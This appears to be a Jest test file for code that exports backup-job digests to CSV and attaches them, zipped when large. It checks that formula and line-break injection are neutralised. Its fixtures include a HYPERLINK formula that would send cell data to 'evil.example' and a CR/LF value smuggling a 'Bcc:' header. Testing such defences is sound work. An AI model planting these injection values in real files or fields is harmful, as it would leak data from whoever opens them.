import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { jobsAttachment, PLAIN_CSV_LIMIT } from '../../lambda/adapters/render/jobs-attachment';
import { CSV_HEADER, jobsCsv } from '../../lambda/adapters/render/jobs-csv';
import type { Digest } from '../../lambda/core/digest';
import { everyKindOfRow } from '../support/digest-fixtures';
import { syntheticDigest } from '../support/synthetic-digest';

/** The CSV read back as a spreadsheet would: header, then one record per row. */
function readBack(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
}

function rowOf(records: Record<string, string>[], user: string, set: string): Record<string, string> {
  const found = records.find((r) => r.user === user && r.backup_set?.startsWith(set));
  if (!found) throw new Error(`no row for ${user} / ${set}`);
  return found;
}

describe('jobsCsv', () => {
  let digest: Digest;
  let csv: string;
  beforeEach(() => {
    digest = everyKindOfRow();
    csv = jobsCsv(digest);
  });

  test('starts with a BOM and a header, then one CRLF-ended line per row', () => {
    const lines = csv.split('\r\n');

    expect(csv.startsWith('\uFEFFclass,user,sub_admin,backup_set,')).toBe(true);
    expect(lines[0]?.replace('\uFEFF', '').split(',')).toEqual(CSV_HEADER);
    // The last record ends with CRLF too, so the split leaves one empty string.
    expect(lines).toHaveLength(digest.rows.length + 2);
    expect(lines.at(-1)).toBe('');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  test('reads back to the same rows, worst first, quotes and commas intact', () => {
    const records = readBack(csv);

    expect(records.map((r) => r.class)).toEqual(
      digest.rows.map((r) => (r.jobClass === 'error' ? 'not checked' : r.jobClass)),
    );
    expect(rowOf(records, 'bob', 'Photos').backup_set).toBe('Photos <b>& "more"</b> ✓');
    expect(rowOf(records, 'erin', '').reason).toContain('User "erin" not found');
    expect(rowOf(records, 'alice', 'SQL Server')).toMatchObject({
      status: 'BS_STOP_SUCCESS_WITH_ERROR',
      start: '2026-11-28T20:54:00+01:00',
      duration_s: '3300',
      new_files: '120',
      new_bytes: String(37 * 1024 * 1024),
      errors: '12',
      warnings: '2',
    });
  });

  test("a set's superseded runs follow its line as `superseded`, so every job is in the CSV", () => {
    const [decider, other] = digest.rows;
    if (!decider || !other) throw new Error('the fixture has rows');
    const earlier = { ...other, jobId: 'earlier-1', reason: 'stopped by a system error' };
    digest.rows[0] = { ...decider, earlierJobs: [earlier] };

    const records = readBack(jobsCsv(digest));

    expect(records).toHaveLength(digest.rows.length + 1);
    expect(records[0]?.job_id).toBe(decider.jobId ?? '');
    expect(records[1]).toMatchObject({
      class: 'superseded',
      job_id: 'earlier-1',
      reason: 'stopped by a system error',
    });
    expect(records[2]?.job_id).toBe(other.jobId ?? '');
  });

  test('a CBS value that a spreadsheet would run as a formula is made inert', () => {
    const records = readBack(csv);

    expect(rowOf(records, 'frank', "'=HYPERLINK").backup_set).toBe(
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
    );
  });

  test.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\uFF1D1+1'])('%s is prefixed with a quote', (name) => {
    const first = digest.rows[0];
    if (!first) throw new Error('fixture has no rows');
    first.backupSetName = name;

    const records = readBack(jobsCsv(digest));

    expect(records[0]?.backup_set).toBe(`'${name}`);
  });

  test('a CR/LF inside a CBS value becomes a space: one line per row', () => {
    const records = readBack(csv);

    expect(rowOf(records, 'frank', 'Evil').backup_set).toBe('Evil Bcc: evil@example.com');
  });

  test('numbers stay numbers and missing values stay empty', () => {
    const records = readBack(csv);

    expect(rowOf(records, 'bob', 'Old Laptop')).toMatchObject({ job_id: '', start: '', new_bytes: '' });
    expect(rowOf(records, 'alice', 'SQL Server').dedupe_saving_bytes).toBe(String(9 * 1024 * 1024));
  });
});

describe('jobsAttachment', () => {
  test('a digest of ordinary size attaches the CSV itself', () => {
    const digest = everyKindOfRow();

    const attachment = jobsAttachment(digest);

    expect(attachment.filename).toBe('backup-jobs-2026-11-28.csv');
    expect(attachment.contentType).toBe('text/csv; charset=utf-8');
    expect(Buffer.from(attachment.content).toString('utf8')).toBe(jobsCsv(digest));
  });

  test("the limit is about 12,000 jobs of plain CSV, which base64 keeps far below SES's 10 MB", () => {
    const perRow = Buffer.byteLength(jobsCsv(syntheticDigest(1000))) / 1000;

    expect(PLAIN_CSV_LIMIT / perRow).toBeGreaterThan(10_000);
    expect(PLAIN_CSV_LIMIT * (4 / 3)).toBeLessThan(5 * 1024 * 1024);
  });

  test('a CSV past the limit goes zipped, and unzips to the same CSV', () => {
    const digest = syntheticDigest(300);
    const csv = jobsCsv(digest);
    const limit = Buffer.byteLength(csv) - 1;

    const attachment = jobsAttachment(digest, limit);

    expect(attachment.filename).toBe('backup-jobs-2026-11-28.csv.zip');
    expect(attachment.contentType).toBe('application/zip');
    const files = unzipSync(attachment.content);
    expect(Object.keys(files)).toEqual(['backup-jobs-2026-11-28.csv']);
    expect(Buffer.from(files['backup-jobs-2026-11-28.csv'] ?? []).toString('utf8')).toBe(csv);
    expect(attachment.content.length).toBeLessThan(Buffer.byteLength(csv) / 2);
  });
});
